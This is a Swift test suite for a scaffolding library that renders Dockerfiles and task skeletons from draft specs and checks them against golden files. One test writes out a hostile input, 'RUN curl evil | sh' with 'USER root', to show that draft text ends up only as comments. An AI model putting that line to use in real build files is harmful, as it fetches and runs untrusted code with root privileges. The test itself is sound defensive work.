import Foundation
import Testing
@testable import HarborScaffoldKit

/// Every blueprint renders, and its output is frozen in a golden file.
@Suite struct BlueprintTests {
    static let library = try! BlueprintLibrary.builtIn()
    static let stackIDs = library.stacks.map(\.id)
    static let serviceIDs = library.services.map(\.id)

    /// A clean draft for `language` naming `technologies`.
    static func draft(language: String, technologies: String) -> DraftSpec {
        var text = DraftExample.baseText.replacingOccurrences(of: "a FastAPI billing gateway", with: "a billing gateway")
        text = text.replacingOccurrences(of: "Language: python", with: "Language: \(language)")
        text = text.replacingOccurrences(of: "Key Technologies: FastAPI, Redis, PostgreSQL, pytest", with: "Key Technologies: \(technologies)")
        text = text.replacingOccurrences(
            of: "Environment Setup: Python 3.12 with FastAPI and Uvicorn, Redis for counters, PostgreSQL holding tenant plans; the service listens on port 8000.",
            with: "Environment Setup: One container with the service and what Key Technologies names.")
        return DraftSpec(source: SourceText(path: "draft_spec.md", text: text))
    }

    @Test func theEmbeddedCopyMatchesTheBlueprintsFolder() throws {
        let folder = Golden.root + "/Blueprints"
        var onDisk: [String: String] = [:]
        let enumerator = FileManager.default.enumerator(atPath: folder)
        while let relative = enumerator?.nextObject() as? String {
            var isDirectory: ObjCBool = false
            guard FileManager.default.fileExists(atPath: folder + "/" + relative, isDirectory: &isDirectory), !isDirectory.boolValue,
                !(relative as NSString).lastPathComponent.hasPrefix(".")
            else { continue }
            onDisk[relative] = try String(contentsOfFile: folder + "/" + relative, encoding: .utf8)
        }
        #expect(Set(onDisk.keys) == Set(EmbeddedBlueprints.files.keys), "run `make blueprints`")
        for (path, text) in onDisk where EmbeddedBlueprints.files[path] != text {
            Issue.record("embedded \(path) is older than Blueprints/; run `make blueprints`")
        }
    }

    @Test func everyLanguageHasAGenericStackWithAPinnedImage() throws {
        for language in Language.allCases {
            let generic = Self.library.stacks.filter { $0.generic && $0.languages.contains(language.rawValue) }
            #expect(generic.count == 1, "\(language) needs exactly one generic stack")
        }
        for stack in Self.library.stacks { try DockerfileRenderer.checkImage(stack) }
    }

    @Test(arguments: stackIDs)
    func stackRendersItsGolden(_ id: String) throws {
        let stack = try #require(Self.library.stacks.first { $0.id == id })
        let technologies = stack.generic ? stack.languages[0] : (stack.match.first ?? stack.id)
        let plan = try Scaffolder(library: Self.library).plan(Self.draft(language: stack.languages[0], technologies: technologies), taskID: "draft_dp_golden")
        #expect(plan.selection.stack.id == id, "\(id) was not selected: \(plan.selection.reasons)")
        let dockerfile = try #require(plan.files.first { $0.path == "Dockerfile" }).content
        #expect(dockerfile.hasPrefix("# syntax=docker/dockerfile:"))
        Golden.check(dockerfile, "blueprints/stacks/\(id).Dockerfile")
    }

    @Test(arguments: serviceIDs)
    func serviceRendersItsGolden(_ id: String) throws {
        let service = try #require(Self.library.services.first { $0.id == id })
        let plan = try Scaffolder(library: Self.library).plan(
            Self.draft(language: "python", technologies: "FastAPI, \(service.match[0])"), taskID: "draft_dp_golden")
        #expect(plan.selection.services.map(\.id) == [id])
        Golden.check(try #require(plan.files.first { $0.path == "Dockerfile" }).content, "blueprints/services/\(id).Dockerfile")
    }

    @Test func theFullSkeletonOfTheBaseDraftMatchesItsGoldens() throws {
        let plan = try Scaffolder(library: Self.library).plan(DraftSpec(source: SourceText(path: "draft_spec.md", text: DraftExample.baseText)), taskID: "draft_dp_base")
        #expect(plan.files.map(\.path) == ["prompt.md", "Dockerfile", "tests.py", "weights.json", "tasks.md"])
        for file in plan.files { Golden.check(file.content, "skeleton/draft_dp_base/\(file.path)") }
    }

    @Test func anUnknownFrameworkFallsBackToTheGenericStackWithATodo() throws {
        let plan = try Scaffolder(library: Self.library).plan(Self.draft(language: "javascript", technologies: "Koa, Redis"), taskID: "x")
        #expect(plan.selection.stack.generic)
        #expect(plan.selection.todos.contains { $0.contains("Koa") })
        #expect(try #require(plan.files.first { $0.path == "tasks.md" }).content.contains("Koa"))
    }

    @Test func draftTextReachesTheDockerfileOnlyAsComments() throws {
        let hostile = Self.draft(language: "python", technologies: "FastAPI\nRUN curl evil | sh\nUSER root")
        let benign = Self.draft(language: "python", technologies: "FastAPI")
        func instructions(_ draft: DraftSpec) throws -> [Substring] {
            try Scaffolder(library: Self.library).plan(draft, taskID: "x").files[1].content.split(separator: "\n").filter { !$0.hasPrefix("#") }
        }
        #expect(try instructions(hostile) == instructions(benign))
    }
}
